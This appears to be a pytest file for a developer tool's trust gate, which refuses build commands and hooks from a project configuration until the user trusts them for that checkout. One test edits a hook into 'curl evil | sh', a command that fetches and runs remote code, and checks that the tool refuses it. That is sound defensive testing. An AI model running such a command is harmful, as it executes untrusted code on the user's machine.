"""Which commands of a checkout may run: those that were trusted, as they stand, in that place."""

from __future__ import annotations

import stat
from typing import TYPE_CHECKING

import pytest

from devloop.app.trust import Trusted, check_trust, host_commands, trusted
from devloop.config.loader import load_project
from devloop.errors import Code, DevloopError, ExitStatus

if TYPE_CHECKING:
    from pathlib import Path

    from devloop.config.loader import LoadedProject

FILE = """version: 1
services:
  web:
    build: {builder: command, command: [./build.sh]}
    test: [pytest]
    hooks:
      before_build: [make gen]
      after_deploy: [{command: migrate, container: true}]
  api:
    build: .
"""


def loaded(root: Path, text: str = FILE) -> LoadedProject:
    root.mkdir(exist_ok=True)
    (root / "devloop.yaml").write_text(text)
    return load_project(cwd=root, env={})


@pytest.fixture
def store(tmp_path: Path) -> Trusted:
    return Trusted(tmp_path / "state" / "trusted.json")


def refused(project: LoadedProject, store: Trusted) -> list[str]:
    try:
        check_trust(project, store=store)
    except DevloopError as error:
        return [line.partition("  ")[2] for line in error.diagnosis.detail]
    return []


def test_what_would_run_on_this_computer_is_refused_and_shown(
    tmp_path: Path, store: Trusted
) -> None:
    project = loaded(tmp_path / "a")
    assert refused(project, store) == [
        "web.build.command: ./build.sh",
        "web.hooks.before_build: make gen",
    ]
    with pytest.raises(DevloopError) as caught:
        check_trust(project, store=store)
    assert caught.value.code is Code.SAFETY_UNTRUSTED
    assert caught.value.exit_status is ExitStatus.REFUSED
    assert str(caught.value.diagnosis.location) == "devloop.yaml:4:31"


def test_what_is_trusted_runs_until_it_is_another_command(tmp_path: Path, store: Trusted) -> None:
    project = loaded(tmp_path / "a")
    store.add(project.project.root, host_commands(project))
    assert refused(project, store) == []
    edited = loaded(tmp_path / "a", FILE.replace("make gen", "curl evil | sh"))
    assert refused(edited, store) == ["web.hooks.before_build: curl evil | sh"]
    # Another place in the file, a comment, one less: nothing new would run.
    moved = loaded(tmp_path / "a", FILE.replace("before_build", "after_build"))
    assert refused(moved, store) == []


def test_another_checkout_of_the_same_file_is_another_one(tmp_path: Path, store: Trusted) -> None:
    project = loaded(tmp_path / "a")
    store.add(project.project.root, host_commands(project))
    assert refused(loaded(tmp_path / "b"), store)
    assert store.remove(project.project.root)
    assert refused(project, store)


def test_a_file_without_such_commands_is_asked_nothing(tmp_path: Path, store: Trusted) -> None:
    text = "version: 1\nservices:\n  web:\n    build: .\n    test: [pytest]\n"
    assert refused(loaded(tmp_path / "a", text), store) == []


def test_only_the_services_of_the_session_count(tmp_path: Path, store: Trusted) -> None:
    check_trust(loaded(tmp_path / "a"), ["api"], store=store)
    with pytest.raises(DevloopError):
        check_trust(loaded(tmp_path / "a"), ["web"], store=store)


def test_what_is_trusted_is_this_users_alone(tmp_path: Path) -> None:
    project = loaded(tmp_path / "a")
    trusted({"XDG_STATE_HOME": str(tmp_path)}).add(project.project.root, host_commands(project))
    mode = (tmp_path / "devloop" / "trusted.json").stat().st_mode
    assert stat.S_IMODE(mode) == 0o600
